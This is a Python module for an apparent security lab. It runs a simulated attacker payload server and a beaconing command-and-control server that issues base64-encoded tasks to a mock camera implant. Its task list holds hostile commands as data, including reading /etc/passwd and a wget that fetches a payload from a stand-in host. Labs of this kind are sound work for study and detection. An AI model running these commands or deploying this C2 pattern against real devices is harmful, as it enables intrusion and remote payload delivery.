"""The attacker's HTTP servers in the lab: a payload host and a beaconing C2 endpoint.

Both are ``http.server`` threads of the lab process, bound to one attacker address each.
The C2 hands out small base64-encoded tasks (``{"t": "<b64>", "s": SLEEP}``) to a polling
implant and accepts base64 results by POST, the way commodity HTTP C2 frameworks do; the
tasks are strings, never executed by anyone (the implant answers with canned output).
"""

from __future__ import annotations

import base64
import json
import logging
import random
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

log = logging.getLogger(__name__)

#: what an operator would queue for a camera implant
TASKS = (
    "id", "uname -a", "cat /proc/cpuinfo", "ls -la /tmp", "ps w", "cat /etc/passwd",
    "ifconfig", "netstat -an", "wget -O /tmp/.x http://update.example/x", "sleep",
)  # fmt: skip


class _Quiet(BaseHTTPRequestHandler):
    server_version = "nginx/1.18.0"
    sys_version = ""
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        log.debug("%s " + format, self.address_string(), *args)

    def _send(self, code: int, body: bytes, ctype: str = "application/json") -> None:
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class _Server:
    """A ThreadingHTTPServer on one lab address, served from a daemon thread."""

    handler: type[BaseHTTPRequestHandler]

    def __init__(self, address: IPv4Address, port: int) -> None:
        self.address, self.port = address, port
        self.httpd: ThreadingHTTPServer | None = None
        self.thread: threading.Thread | None = None

    def configure(self, httpd: ThreadingHTTPServer) -> None:
        del httpd

    def start(self) -> None:
        httpd = ThreadingHTTPServer((str(self.address), self.port), self.handler)
        httpd.daemon_threads = True
        self.configure(httpd)
        self.httpd = httpd
        self.thread = threading.Thread(
            target=httpd.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True
        )
        self.thread.start()

    def stop(self) -> None:
        if self.httpd is not None:
            self.httpd.shutdown()
            self.httpd.server_close()
        if self.thread is not None:
            self.thread.join(timeout=5)
        self.httpd = self.thread = None


class _PayloadHandler(_Quiet):
    def do_GET(self) -> None:
        root: Path = self.server.root  # type: ignore[attr-defined]
        name = self.path.lstrip("/").split("?", 1)[0]
        path = root / name
        if "/" in name or not name or not path.is_file():
            self._send(404, b"not found\n", "text/plain")
            return
        self._send(200, path.read_bytes(), "application/octet-stream")


class PayloadServer(_Server):
    """Serves the files of one folder (the payloads), nothing else."""

    handler = _PayloadHandler

    def __init__(self, address: IPv4Address, port: int, root: Path) -> None:
        super().__init__(address, port)
        self.root = root

    def configure(self, httpd: ThreadingHTTPServer) -> None:
        httpd.root = self.root  # type: ignore[attr-defined]


class _C2Handler(_Quiet):
    def do_GET(self) -> None:
        rng: random.Random = self.server.rng  # type: ignore[attr-defined]
        if not self.path.startswith("/api/v1/beacon"):
            self._send(404, b"{}")
            return
        task = rng.choice(TASKS)
        body = {"t": base64.b64encode(task.encode()).decode(), "s": rng.choice((1, 2, 3, 5))}
        self._send(200, json.dumps(body).encode())

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(min(length, 1 << 20))
        if not self.path.startswith("/api/v1/result"):
            self._send(404, b"{}")
            return
        self.server.results += 1  # type: ignore[attr-defined]
        self._send(200, b'{"ok":1}')


class C2Server(_Server):
    """The beaconing implant's command server."""

    handler = _C2Handler

    def configure(self, httpd: ThreadingHTTPServer) -> None:
        httpd.rng = random.Random(f"c2:{self.address}")  # type: ignore[attr-defined]
        httpd.results = 0  # type: ignore[attr-defined]
